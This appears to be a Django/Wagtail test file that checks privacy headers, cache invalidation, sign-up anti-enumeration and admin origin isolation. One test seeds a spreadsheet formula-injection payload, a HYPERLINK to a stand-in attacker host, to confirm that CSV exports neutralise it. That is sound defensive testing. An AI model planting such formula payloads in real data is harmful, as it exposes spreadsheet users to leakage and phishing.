"""Personal responses carry Cache-Control: private, no-store; the anonymous cache follows privacy changes;
the admin requests no other origin; sign-up takes the same work for known and new addresses (issue #12: 4, 12,
13, 15)."""

import re

from django.contrib.auth.hashers import MD5PasswordHasher
from django.core import mail
from django.test import override_settings

from wagtail.models import PageViewRestriction

from tests.accounts.test_signup import signup_data
from tests.factories import UserFactory, make_course


def _private(response):
    directives = {part.strip().split("=")[0] for part in response.get("Cache-Control", "").split(",")}
    return {"private", "no-store"} <= directives and "public" not in directives


def test_every_signed_in_response_is_private_and_not_stored(client, user):
    client.force_login(user)
    for url in ("/uk/profile/", "/uk/profile/my-data.json", "/uk/learning/", "/uk/courses/", "/uk/"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert _private(response), (url, response.get("Cache-Control"))


def test_anonymous_public_pages_stay_cacheable(client, site):
    response = client.get("/uk/courses/")
    assert "private" not in response.get("Cache-Control", "")


def test_making_a_page_login_only_empties_the_anonymous_cache(client, site):
    course = make_course(site["catalogue"]["uk"], slug="c", modules=1, lessons=1)
    lesson = course.get_descendants().live().last()
    url = lesson.url
    assert client.get(url).status_code == 200
    assert client.get(url)["X-Page-Cache"] == "hit"
    restriction = PageViewRestriction.objects.create(page=lesson, restriction_type=PageViewRestriction.LOGIN)
    response = client.get(url)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    restriction.delete()
    assert client.get(url).status_code == 200


def test_a_group_restriction_change_empties_the_anonymous_cache(client, site):
    from django.contrib.auth.models import Group

    course = make_course(site["catalogue"]["uk"], slug="c", modules=1, lessons=1)
    restriction = PageViewRestriction.objects.create(page=course, restriction_type=PageViewRestriction.GROUPS)
    restriction.delete()
    client.get(course.url)
    assert client.get(course.url)["X-Page-Cache"] == "hit"
    restriction = PageViewRestriction.objects.create(page=course, restriction_type=PageViewRestriction.GROUPS)
    restriction.groups.add(Group.objects.get(name="Trainers"))
    assert client.get(course.url).status_code == 302


class CountingHasher(MD5PasswordHasher):
    calls = 0

    def encode(self, password, salt):
        CountingHasher.calls += 1
        return super().encode(password, salt)


def _signup(client, email):
    return client.post("/uk/accounts/signup/", signup_data(email=email))


@override_settings(PASSWORD_HASHERS=["tests.security.test_privacy_headers.CountingHasher"])
def test_sign_up_does_the_same_work_for_known_and_new_addresses(client, site):
    existing = UserFactory()
    CountingHasher.calls = 0
    known = _signup(client, existing.email)
    known_hashes, known_mails = CountingHasher.calls, len(mail.outbox)
    CountingHasher.calls = 0
    new = _signup(client, "someone.new@example.org")
    new_hashes, new_mails = CountingHasher.calls, len(mail.outbox) - known_mails
    assert known.status_code == new.status_code == 302
    assert known["Location"] == new["Location"]
    assert known_hashes == new_hashes >= 1
    assert known_mails == new_mails == 1


def test_admin_pages_request_no_other_origin(client, site):
    from tests.factories import give_totp

    admin = UserFactory(is_superuser=True, is_staff=True)
    give_totp(admin)
    client.force_login(admin)
    for url in ("/admin/", "/admin/users/", "/admin/account/", "/admin/pages/"):
        response = client.get(url, follow=True)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "gravatar" not in html, url
        # What the browser fetches by itself: src and srcset of any element, and <link href> (links a person
        # follows, such as Wagtail's documentation, are no request).
        sources = re.findall(r'(?:src|srcset)="((?:https?:)?//[^"]+)"', html)
        sources += re.findall(r'<link[^>]+href="((?:https?:)?//[^"]+)"', html)
        assert [source for source in sources if "testserver" not in source] == [], url


def test_wagtails_own_admin_csv_exports_carry_no_live_formula(client, site):
    from tests.factories import give_totp

    make_course(site["catalogue"]["uk"], slug="f", title='=HYPERLINK("http://evil.example/?x","open")', modules=0)
    admin = UserFactory(is_superuser=True, is_staff=True)
    give_totp(admin)
    client.force_login(admin)
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "HYPERLINK" in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.strip('"').startswith("="), line
